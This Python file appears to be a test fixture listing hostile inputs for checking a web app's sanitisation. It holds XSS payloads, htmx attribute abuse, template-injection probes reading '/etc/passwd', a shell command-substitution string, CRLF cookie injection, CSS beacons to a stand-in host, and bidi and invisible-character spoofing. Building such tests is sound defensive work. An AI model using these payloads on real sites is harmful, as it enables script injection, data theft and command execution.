"""Texts that try to be more than text: to run a script, to ask another server, to change what stands around them.

Whatever of them runs sets `window.scriptRan`, asks a server that isn't there, or opens a dialog.
"""

RUN = "window.scriptRan=1"
ELSEWHERE = "http://elsewhere.invalid/seen"

SCRIPTS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script src={ELSEWHERE}></script>",
    f"<script type=module>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<<script>{RUN}//<</script>",
    f"<script\x0b>{RUN}</script>",
    f"<svg><script>{RUN}</script></svg>",
    f"<noscript><p title='</noscript><script>{RUN}</script>'>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
]
HANDLERS = [
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}'/>",
    f'<img src="x" onerror="alert(1);{RUN}">',
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set attributeName=href onbegin={RUN}>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<div onpointerenter={RUN}>hover</div>",
    f"<math><mtext><img src=x onerror={RUN}></math>",
]
BREAKING_OUT = [
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f'" onmouseover="{RUN}" x="',
    f"' autofocus onfocus='{RUN}' x='",
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</p></article></main><script>{RUN}</script>",
    f"</pre><img src=x onerror={RUN}>",
    f"</bdi></a><svg onload={RUN}>",
    f"</style><script>{RUN}</script>",
    f'{{"a":"</script><script>{RUN}</script>"}}',
    '"}]};window.scriptRan=1;//',
    "\\u003cscript\\u003ewindow.scriptRan=1\\u003c/script\\u003e",
]
LINKS = [
    f"<a href=javascript:{RUN}>press</a>",
    f"<a href='jAvAsCrIpT:{RUN}'>press</a>",
    f"<a href='java\tscript:{RUN}'>press</a>",
    f"<a href='&#106;avascript:{RUN}'>press</a>",
    f"[press](javascript:{RUN})",
    f"javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"<a href='data:text/html,<script>{RUN}</script>'>press</a>",
    f"<form action=javascript:{RUN}><button>press</button></form>",
    f"<form action={ELSEWHERE}><button formaction={ELSEWHERE}>press</button></form>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"<base href={ELSEWHERE}>",
    f"<link rel=stylesheet href={ELSEWHERE}>",
    f"<link rel=prefetch href={ELSEWHERE}>",
    f"<iframe src={ELSEWHERE}></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data={ELSEWHERE}></object>",
    f"<embed src={ELSEWHERE}>",
    f"<img src={ELSEWHERE}>",
    f"<img srcset='{ELSEWHERE} 2x'>",
    f"<video poster={ELSEWHERE}></video>",
]
PAGE_ATTRIBUTES = [
    f"<div hx-get={ELSEWHERE} hx-trigger=load></div>",
    "<div hx-get=/page/ hx-trigger=load hx-target=body></div>",
    "<div hx-post=/page/erase hx-trigger='load, every 1s' hx-vals='{\"bank\":\"acme/ana\"}'></div>",
    f"<div hx-on:htmx:load='{RUN}'></div>",
    f"<div hx-on--load='{RUN}'></div>",
    f"<div data-hx-get={ELSEWHERE} data-hx-trigger=load></div>",
    f"<div hx-vals='js:{{x:{RUN}}}' hx-get=/page/ hx-trigger=load></div>",
    "<div hx-ext=debug hx-swap-oob=true id=content>swapped</div>",
    "<div id=notice hx-swap-oob=true>swapped</div>",
    "<div class=chart data-chart='{'></div>",
    "<div class=graph data-graph='{}'></div>",
    "<div id=answer>not the answer</div>",
]
TEMPLATES = [
    "{{ 7 * 7 }}",
    "{{ visitor.form_key }}",
    "{{ ''.__class__.__mro__ }}",
    "{% include '/etc/passwd' %}",
    "{% for x in range(999999999) %}x{% endfor %}",
    "{# a comment #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('window.scriptRan=1')()}}",
    "%(text)s %s {0} {text!r}",
    "$(touch /tmp/owned) `id`",
]
STYLES = [
    f"<style>@import url({ELSEWHERE});</style>",
    f"<style>*{{background:url({ELSEWHERE})}}</style>",
    f"<p style='background:url({ELSEWHERE})'>red</p>",
    "<p style='position:fixed;inset:0;z-index:9'>over everything</p>",
    "<style>main{display:none}</style>",
    "</style><style>body{display:none}",
    f"<div style=behavior:url({ELSEWHERE})>",
    f"<p style=width:expression({RUN})>",
]
ENTITIES = [
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    "&amp;lt;b&amp;gt;",
    "&nbsp;&zwj;&rlm;&NewLine;",
    "&#x0; &#xD800; &#x110000;",
    "%3Cscript%3Ewindow.scriptRan=1%3C/script%3E",
    "+ADw-script+AD4-window.scriptRan=1+ADw-/script+AD4-",
    "\uff1cscript\uff1ewindow.scriptRan=1\uff1c/script\uff1e",
]
DIRECTIONS = [
    "before \u202eafter turned round",
    "\u202d\u202e\u202d\u202e deep",
    "\u2066isolated without an end",
    "\u2067\u2067\u2067 right to left without ends",
    "\u200f\u200e\u061c marks",
    "user\u202emoc.live@",
    "שלום <b>עולם</b> hello",
    "مرحبا \u202e <i>بالعالم</i>",
]
INVISIBLE = [
    *[f"control {code:#04x} [{chr(code)}] here" for code in (*range(1, 9), 11, 12, *range(14, 32), 127, 133, 155)],
    "zero\u200bwidth\u200cjoin\u200der\ufeff",
    "lines\u2028and\u2029paragraphs",
    "\x1b[31mred\x1b[0m \x1b]8;;http://elsewhere.invalid\x07link",
    "tags \U000e0041\U000e0042\U000e007f",
    "noncharacters \ufffe \uffff \U0010ffff",
    "a\u0301\u0302\u0303\u0304" * 400,
    "\r\n\r\nSet-Cookie: memkit_token=x\r\n\r\n<b>",
]
LONG = [
    "x" * 1_000_000,
    "<b>" * 3_000,
    "\u202e" * 5_000 + "end",
    "😀" * 5_000,
    "a" * 5_000 + " " + "b" * 5_000,
    "((((" * 2_000,
    "\n" * 5_000 + "below",
]
TURNED = [f"{text} {text[::-1]}" for text in (*SCRIPTS, *HANDLERS, *BREAKING_OUT, *LINKS)][:48]

HOSTILE_TEXTS = [
    *SCRIPTS, *HANDLERS, *BREAKING_OUT, *LINKS, *PAGE_ATTRIBUTES, *TEMPLATES, *STYLES, *ENTITIES, *DIRECTIONS,
    *INVISIBLE, *LONG, *TURNED,
]  # fmt: skip
